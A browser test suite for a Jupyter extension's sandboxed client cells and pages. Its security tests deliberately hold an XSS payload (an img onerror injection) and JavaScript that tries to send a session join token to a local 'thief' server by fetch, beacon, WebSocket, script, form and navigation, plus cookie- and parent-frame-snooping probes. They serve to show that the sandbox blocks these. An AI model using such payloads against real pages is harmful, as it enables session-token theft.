"""``%%client`` and ``io.page``: what runs in them, and what it cannot reach."""

import json
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browser.conftest import ROOT
from playwright.sync_api import expect

MODULES = ROOT / "js" / "node_modules"
PICTURES = ROOT / "test-results"
SERVER = """
import nbsocket
io = nbsocket.Server("client-test")
"""
ONE_CLIENT = """async () => {
  const config = JSON.parse(document.getElementById("jupyter-config-data").textContent);
  const answer = await fetch(`${config.baseUrl}nbsocket/api/channels/client-test`);
  return (await answer.json()).clients === 1;
}"""
SNOOP = """%%client snoop
const tries = {
  origin: () => self.origin,
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  top: () => { top.location = "about:blank"; return "moved"; },
};
for (const [name, attempt] of Object.entries(tries)) {
  let result;
  try { result = String(attempt()); } catch (error) { result = error.name; }
  console.log(name + "=" + result);
}
fetch(window.__nbsocket_home.origin + "API", { credentials: "include" }).then(
  (answer) => console.log("api=" + answer.status),
  (error) => console.log("api=" + error.name),
);
"""


# A learner's page that trusts what it shows; what a student may send it is run by it.
NAIVE = """%%client naive
var socket = io();
socket.on("said", (text) => { document.body.innerHTML = text; });
socket.on("connect", () => console.log("in", socket.id));
"""
# What a page says that has taken the frame's place: as the client's bundle does.
GRAB = b"<script>parent.postMessage({kind: 'seat'}, '*', [new MessageChannel().port1])</script>"
BACK = """%%client back
var socket = io();
socket.on("connect", () => console.log("in", socket.id));
socket.on("disconnect", (why) => console.log("out", why));
setTimeout(() => socket.io.engine.close(), 1000);
setTimeout(() => { socket.disconnect(); socket.connect(); socket.disconnect(); socket.connect(); }, 4000);
"""
SPY = """
const out = [];
const tell = (what) => console.log(what);
tell("home=" + JSON.stringify(window.__nbsocket_home.ticket));
const ticket = () => socket.io.opts.query.join_token;
const attempts = {
  fetch: () => fetch(THIEF + "fetch?" + ticket(), { mode: "no-cors" }),
  image: () => new Promise((done, fail) => {
    const image = new Image(); image.onload = done; image.onerror = () => fail(new Error("blocked"));
    image.src = THIEF + "image?" + ticket();
  }),
  beacon: async () => { if (!navigator.sendBeacon(THIEF + "beacon", ticket())) throw new Error("blocked"); },
  socket: () => new Promise((done, fail) => {
    const one = new WebSocket(THIEF.replace("http", "ws") + "socket?" + ticket());
    one.onopen = done; one.onerror = () => fail(new Error("blocked"));
  }),
  script: () => new Promise((done, fail) => {
    const one = document.createElement("script"); one.onload = done; one.onerror = () => fail(new Error("blocked"));
    one.src = THIEF + "script?" + ticket(); document.body.append(one);
  }),
  form: async () => {
    const one = document.createElement("form"); one.action = THIEF + "form?" + ticket(); one.method = "post";
    document.body.append(one); one.submit();
  },
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { await attempt(); tell(name + ": sent"); } catch (error) { tell(name + ": " + error.message); }
  }
  // Nothing keeps a frame from going elsewhere: the one way out.
  setTimeout(() => { location = THIEF + "gone?" + ticket(); }, 300);
})();
"""


@pytest.fixture
def thief():
    """Another origin's server; keeps the addresses that it was asked for."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(
                b"mine now<script>parent.postMessage({kind: 'seat'}, '*', [new MessageChannel().port1])</script>"
            )

        do_POST = do_GET  # noqa: N815 - the library's name

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def status_of(url, method="GET", body=None):
    request = urllib.request.Request(url, body, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


@pytest.fixture
def notebook(open_notebook, lab):
    cells = [
        SERVER,
        SNOOP.replace("API", f"{lab.base_url}api/kernels"),
        "%%client wrong\nconsole.log('before');\nundefined_name();",
        "%%client one --channel nobody\n1",
        "%%client two words\n1",
        "%%client again\nvar socket = io();\nsocket.on('connect', () => console.log('in', socket.id));",
        "len(io.sockets)",
        "%%client draws\ndocument.body.append('drawn </script> here');",
        "%%client syntax\nvar s = io(;",
        NAIVE,
        "sorted((one.role, one.connected) for one in io.sockets.values())",
        BACK,
        "io.emit('said', open('markup.html').read())",
    ]
    opened = open_notebook("client.ipynb", cells)
    opened.run(0)
    return opened


def script(notebook, name):
    return notebook.page.locator(f'.nbs-script[data-script="{name}"]')


def test_a_client_cell_reaches_nothing_of_jupyter(notebook):
    notebook.run(1)
    shown = script(notebook, "snoop")
    expect(shown).to_contain_text("api=TypeError")
    expect(shown).to_contain_text("origin=null")
    expect(shown).to_contain_text("cookie=SecurityError")
    expect(shown).to_contain_text("storage=SecurityError")
    expect(shown).to_contain_text("parent=SecurityError")
    expect(shown).to_contain_text("top=SecurityError")


def test_errors_in_a_client_cell_are_shown_with_their_line(notebook):
    notebook.run(2)
    shown = script(notebook, "wrong")
    expect(shown).to_contain_text("before")
    expect(shown.locator('li[data-level="error"]')).to_contain_text("undefined_name is not defined")
    expect(shown.locator('li[data-level="error"]')).to_contain_text("(line 3 of the cell)")
    expect(shown).to_have_attribute("data-state", "error")


def test_a_fault_in_the_syntax_is_shown_with_its_line(notebook):
    notebook.run(8)
    shown = script(notebook, "syntax")
    expect(shown.locator('li[data-level="error"]')).to_contain_text("SyntaxError: Unexpected token")
    expect(shown.locator('li[data-level="error"]')).to_contain_text("(line 2 of the cell)")
    expect(shown).to_have_attribute("data-state", "error")


def test_wrong_arguments_are_explained(notebook):
    assert "There is no server 'nobody' in this notebook; there is: 'client-test'." in notebook.run(3)
    assert "unrecognized arguments: words" in notebook.run(4)


def test_running_a_client_cell_again_closes_the_old_one(notebook):
    before = "nothing"
    for _ in range(3):
        notebook.run(5)
        shown = script(notebook, "again").locator("li")
        expect(shown).not_to_have_text(before)
        expect(shown).to_contain_text("in ")
        before = shown.inner_text()
    expect(script(notebook, "again")).to_have_count(1)
    notebook.page.wait_for_function(ONE_CLIENT)
    assert notebook.run(6).strip() == "1"


def test_a_client_cell_may_draw(notebook):
    notebook.run(7)
    frame = script(notebook, "draws").locator("iframe")
    expect(frame.content_frame.locator("body")).to_contain_text("drawn </script> here")
    notebook.page.wait_for_function(
        """() => document.querySelector('.nbs-script[data-script="draws"] iframe').clientHeight > 10"""
    )


def test_a_ticket_is_not_minted_by_the_cookie_alone(notebook):
    """As another site's form or script would try it: the cookie comes along, the XSRF token does not."""
    statuses = notebook.page.evaluate(
        """async () => {
          const config = JSON.parse(document.getElementById("jupyter-config-data").textContent);
          const address = `${config.baseUrl}nbsocket/api/channels/client-test/tickets`;
          const xsrf = document.cookie.match(/_xsrf=([^;]+)/)[1];
          const ask = async (headers) => (await fetch(address, { method: "POST", body: "{}", headers })).status;
          return [await ask({}), await ask({ "X-XSRFToken": "wrong" }), await ask({ "X-XSRFToken": xsrf })];
        }"""
    )
    assert statuses == [403, 403, 200]


@pytest.mark.threat(39)
def test_a_students_markup_in_a_naive_page_gains_nothing(notebook, lab, thief, errors):
    address, asked = thief
    notebook.run(9)
    shown = script(notebook, "naive")
    expect(shown.locator("li").first).to_contain_text("in ")
    assert notebook.run(10).strip() == "[('guest', True)]", "no owner's rights"
    code = SPY.replace("THIEF", json.dumps(address)).replace('"', "&quot;")
    markup = f'<img src=x onerror="{code}">'
    (lab.root / "markup.html").write_text(markup)
    notebook.run(12)
    for name in ("fetch", "image", "beacon", "socket", "script"):
        expect(shown).to_contain_text(f"{name}: ")
        assert f"{name}: sent" not in shown.inner_text() or name == "beacon"
    expect(shown).to_contain_text('home=""')
    until = time.monotonic() + 15
    while not asked and time.monotonic() < until:
        notebook.page.wait_for_timeout(100)
    assert [one.partition("?")[0] for one in asked] == ["/gone"], "only by going away, frame and all"
    ticket = asked[0].partition("?")[2]
    assert len(ticket) > 40, "that ticket is real"
    route = f"{lab.url}nbsocket/client-test/socket.io/?EIO=4&transport=polling&join_token={ticket}"
    assert status_of(route) == 403
    for place in (f"?token={ticket}", f"?join_token={ticket}"):
        tickets = f"{lab.url}nbsocket/api/channels/client-test/tickets{place}"
        assert status_of(tickets, "POST", b"{}") == 403
    expect(shown.locator(".nbs-state")).to_contain_text("navigated to another address", timeout=15_000)
    expect(shown.locator("iframe")).to_have_count(0)
    assert notebook.run(10).strip() == "[]"
    assert status_of(route) == 403


@pytest.mark.threat(39)
def test_a_client_cell_comes_back_with_a_ticket_of_its_own(notebook):
    notebook.run(11)
    shown = script(notebook, "back")
    expect(shown.locator("li").nth(1)).to_contain_text("out ")
    expect(shown.locator("li").nth(2)).to_contain_text("in ")
    expect(shown.locator("li").nth(4)).to_contain_text("in ", timeout=15_000)
    notebook.page.wait_for_function(ONE_CLIENT)
    assert notebook.run(10).strip() == "[('guest', True)]"


PAGE_SERVER = """
import nbsocket
io = nbsocket.Server("page-console")

@io.on("connection")
def connected(socket):
    socket.emit("newMessage", {"text": "Welcome!"})
"""
# As tutorials begin: a page that says what happens in its console alone.
SILENT = """<!doctype html><html><head><meta charset="utf-8"></head><body>
<script src="/socket.io/socket.io.js"></script>
<script>
  var socket = io();
  socket.on("connect", function () { console.log("Connected to the server"); });
  socket.on("newMessage", function (message) { console.log("new message", message); });
</script>
</body></html>"""


@pytest.mark.promise(3)
def test_a_page_with_nothing_to_see_shows_its_console(open_notebook, lab, errors):
    (lab.root / "silent.html").write_text(SILENT)
    (lab.root / "loud.html").write_text(SILENT.replace("<body>", "<body><h1>Here I am</h1>"))
    cells = [PAGE_SERVER, 'io.page("silent.html")', 'io.page("loud.html", at="/loud")']
    notebook = open_notebook("page-console.ipynb", cells)
    for index in range(3):
        notebook.run(index)
    silent, loud = (notebook.page.locator(".nbs-page").nth(index) for index in range(2))
    console = silent.locator("details.nbs-console")
    expect(console).to_have_attribute("open", "")
    expect(console.locator("li").first).to_have_text("Connected to the server")
    expect(console.locator("li").nth(1)).to_contain_text("Welcome!")
    expect(console.locator("summary")).to_have_text("Console (2)")
    silent.screenshot(path=PICTURES / "page-console.png")
    expect(loud.locator("summary")).to_have_text("Console (2)")
    expect(loud.locator("details")).not_to_have_attribute("open", "")
    expect(loud.frame_locator("iframe").locator("h1")).to_be_visible()
    assert errors == []


@pytest.mark.promise(11)
def test_the_head_of_a_client_cell_says_whether_its_clients_are_connected(open_notebook, errors):
    leaves = "%%client leaves\nvar one = io();\none.on('connect', () => setTimeout(() => one.disconnect(), 1500));"
    notebook = open_notebook(
        "heads.ipynb", [SERVER, leaves, "%%client quiet\nconsole.log('no client here')"]
    )
    for index in range(3):
        notebook.run(index)
    head = notebook.page.locator('[data-script="leaves"] .nbs-state')
    expect(head).to_contain_text("Connected, on channel client-test")
    expect(head).to_contain_text("Not connected, on channel client-test", timeout=10_000)
    expect(head).to_have_attribute("data-state", "disconnected")
    expect(notebook.page.locator('[data-script="quiet"] .nbs-state')).to_contain_text("Running, on channel")
    assert errors == []


@pytest.mark.promise(9)
def test_a_client_cell_is_accessible(open_notebook):
    notebook = open_notebook(
        "axe.ipynb", [SERVER, "%%client bob\nfor (const n of [1, 2, 3]) console.log('line', n);"]
    )
    notebook.run(0)
    notebook.run(1)
    page = notebook.page
    expect(page.locator(".nbs-script .nbs-lines li")).to_have_count(3)
    page.add_script_tag(path=MODULES / "axe-core" / "axe.min.js")
    violations = page.evaluate("async () => (await axe.run('.nbs-script', {iframes: false})).violations")
    assert [(one["id"], one["nodes"][0]["html"]) for one in violations] == []
